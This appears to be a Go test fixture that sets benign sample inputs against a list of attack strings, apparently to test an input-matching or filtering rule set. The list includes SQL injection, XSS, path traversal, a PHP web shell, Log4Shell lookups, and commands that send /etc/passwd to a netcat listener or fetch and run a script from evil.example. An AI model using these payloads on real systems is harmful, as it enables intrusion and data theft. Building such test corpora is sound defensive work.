package rxset_test

import "strings"

// values are harmless.
var values = []string{
	"a8Fk29xQ", "42", "", "true", "Anne Miller", "2026-03-14", "anne.miller@example.org", "/api/v1/users/17/orders?limit=20&offset=40&sort=-created",
	"https://shop.example.com/catalog/shoes/item-4711?color=dark-blue&size=42&utm_source=newsletter#reviews",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
	"We were glad to hear from you, and we'll send the parts that you ordered by Friday; if anything is missing, just write to us.",
	"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "gzip, deflate, br", "keep-alive",
	"eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJleGFtcGxlIiwic3ViIjoiMTIzNCJ9", "Grüße aus Köln, 5 €",
}

var attacks = []string{
	"1' OR '1'='1' -- ", "1 UNION ALL SELECT username, password FROM users--", "'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'/*", "\" or \"a\"=\"a",
	"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=prompt(1)>", "<style>@import 'http://x'</style>",
	"../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "; cat /etc/passwd | nc 10.0.0.1 4444",
	"$(curl http://evil.example/x.sh|sh)", "`id`", "() { :; }; /bin/bash -c id", "cmd.exe /c dir", "powershell -enc AAAA", "<?php system($_GET['c']); ?>",
	"${jndi:ldap://evil.example/a}", "{{7*7}}", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "__proto__[x]=1", "require('child_process').exec('id')",
	"%0d%0aSet-Cookie: a=b", "Content-Type: text/html\r\n\r\n<html>", "java.lang.Runtime.getRuntime()", "(|(uid=*)(cn=*))", "\xbcscript\xbealert(1)\xbc/script\xbe",
	"while(true){}", "[]+[]", "$$(document)", "eval(atob('YWxlcnQ='))", "select pg_sleep(10)", "1;waitfor delay '0:0:5'", "char(65)+char(66)", "sess_0123456789abcdef0123456789",
}

func json(size int) string {
	item := `{"id":4711,"sku":"SH-20-BL","name":"Running shoe \"Swift\"","price":89.95,"tags":["sport","summer","new"],"stock":{"berlin":4,"paris":0},"note":"Runs small; order a half size up, or ask us.","url":"https://shop.example.com/p/4711"}`
	return "[" + item + strings.Repeat(","+item, size/len(item)) + "]"
}
